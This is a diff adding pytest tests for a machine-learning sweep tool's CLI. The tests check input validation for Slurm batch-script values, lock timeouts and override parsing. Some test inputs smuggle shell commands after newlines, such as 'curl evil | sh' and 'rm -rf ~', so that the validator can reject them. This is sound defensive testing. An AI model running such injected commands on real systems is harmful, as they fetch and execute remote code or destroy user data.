@@ -70,6 +70,99 @@ def test_bad_sweep_file_is_one_line_error_and_writes_nothing(tmp_path, capsys, b
     assert not out.exists()
 
 
+INJECT = "[grid]\nseed = [0]\n[resources]\n"
+
+
+@pytest.mark.parametrize(
+    "body, fragments",
+    [
+        (INJECT + 'partition = "debug\\ncurl evil | sh"\n', ["[resources].partition", "newline"]),
+        (INJECT + 'account = "a\\rb"\n', ["[resources].account", "control character"]),
+        (INJECT + 'qos = "q\\n"\n', ["[resources].qos"]),
+        (INJECT + 'constraint = "c\\u0000"\n', ["[resources].constraint"]),
+        (INJECT + 'sbatch_extra = { comment = "x\\nrm -rf ~" }\n', ["sbatch_extra.comment"]),
+        (INJECT + 'sbatch_extra = { "x\\ny" = 1 }\n', ["sbatch_extra key"]),
+        (INJECT + 'setup = ["module load x\\nrm -rf ~"]\n', ["setup[0]"]),
+        (INJECT + "mem_gb = nan\n", ["mem_gb"]),
+    ],
+)
+def test_values_that_reach_the_batch_script_are_one_line_each(tmp_path, capsys, body, fragments):
+    f = write_sweep(tmp_path / "bad.toml", body)
+    out = tmp_path / "out"
+    line = cli_error(capsys, "sweep", str(f), "--dry-run", "--out", str(out))
+    assert all(frag in line for frag in fragments), line
+    assert not out.exists()
+
+
+def test_a_name_is_matched_to_its_end(tmp_path, capsys):
+    """`$` matches before a final newline: the name check must not let "t\\n" through."""
+    f = tmp_path / "s.toml"
+    f.write_text('name = "smoke\\n"\n[grid]\nseed = [0]\n')
+    assert "name must be a folder-safe string" in cli_error(capsys, "sweep", str(f), "--dry-run")
+
+
+def test_dry_run_shows_what_each_job_is_submitted_with(tmp_path, capsys):
+    from mnist_dist.cli import main
+
+    body = INJECT + 'partition = "cpu"\nsetup = ["module load cuda/12"]\n'
+    body += 'sbatch_extra = { comment = "x" }\n'
+    main(["sweep", str(write_sweep(tmp_path / "s.toml", body)), "--dry-run",
+          "--out", str(tmp_path / "o")])  # fmt: skip
+    out = capsys.readouterr().out
+    assert '  slurm_partition = "cpu"' in out and '  name = "t"' in out
+    assert '  slurm_additional_parameters = {"comment": "x"}' in out
+    assert "setup lines before srun:\n  module load cuda/12\n" in out
+    assert not (tmp_path / "o").exists()
+
+
+@pytest.mark.parametrize(
+    "make, args, fragment",
+    [
+        (lambda o: o.write_text(""), (), "is a file, not a sweep folder"),
+        (lambda o: None, ("--poll", "-1"), "--poll must be at least 0.1 seconds"),
+        (lambda o: None, ("--poll", "0"), "--poll must be at least 0.1 seconds"),
+        (lambda o: (o.mkdir(), (o / "sweep.json").write_text('{"trials": []}')), (),
+         "not a readable sweep record (ValueError: no sweep name)"),
+        (lambda o: (o.mkdir(), (o / "sweep.json").write_text(
+            '{"name": "t", "trials": [{"trial_id": "a"}]}')), (), "KeyError: 'config'"),
+    ],
+)  # fmt: skip
+def test_bad_folders_and_flags_are_one_line(tmp_path, capsys, make, args, fragment):
+    out = tmp_path / "out"
+    make(out)
+    f = write_sweep(tmp_path / "s.toml", TINY)
+    line = cli_error(capsys, "sweep", str(f), "--cluster", "local", "--out", str(out), *args)
+    assert fragment in line, line
+
+
+def test_a_lock_held_too_long_names_its_holder(tmp_path, capsys, monkeypatch):
+    """The lock dies with its process, so a timeout means a live holder: it is named."""
+    import subprocess as sp
+
+    from mnist_dist.sweeps import state
+
+    out = tmp_path / "out"
+    code = (
+        "import sys, time; from pathlib import Path; sys.path.insert(0, sys.argv[1])\n"
+        "from mnist_dist.sweeps.state import record_lock\n"
+        "with record_lock(Path(sys.argv[2])):\n    print('held', flush=True); time.sleep(60)"
+    )
+    holder = sp.Popen([sys.executable, "-c", code, str(REPO), str(out)], stdout=sp.PIPE, text=True)
+    try:
+        assert holder.stdout.readline().strip() == "held"
+        real = state.record_lock
+        monkeypatch.setattr(state, "record_lock", lambda o: real(o, timeout_s=0.5))
+        from mnist_dist.sweeps import submit
+
+        monkeypatch.setattr(submit, "record_lock", state.record_lock)
+        f = write_sweep(tmp_path / "s.toml", TINY)
+        line = cli_error(capsys, "sweep", str(f), "--cluster", "local", "--out", str(out))
+        assert f"pid {holder.pid} on " in line and "did not let go within 0.5 s" in line, line
+    finally:
+        holder.kill()
+        holder.wait()
+
+
 def test_a_trials_table_with_lists_is_its_own_small_grid(tmp_path):
     body = (
         '[[trials]]\nstep = "step4"\nseed = [0, 1]\nlr = [0.01, 0.02]\n'
@@ -400,6 +493,9 @@ def test_override_parsing_and_precedence():
         (["resources.gpus=1"], ["unknown key 'gpus'", "[resources]"]),
         (["wandb.mode=loud"], ["[wandb].mode must be off, offline or online"]),
         (["step=step9"], ["unknown step 'step9'"]),
+        (["lr=nan"], ["--lr must be a finite number, got nan"]),  # TOML's nan and inf
+        (["rotate_deg=inf"], ["--rotate-deg must be a finite number, got inf"]),
+        (["grid.seed=[0,-1]"], ["--seed must be in [0, 4294967295]", "got -1"]),
         (["epochs"], ["--set 'epochs' is not key=value"]),
         (["=2"], ["is not key=value"]),
         (["grid.seed=[0,1"], ["'[0,1' is not a TOML value"]),
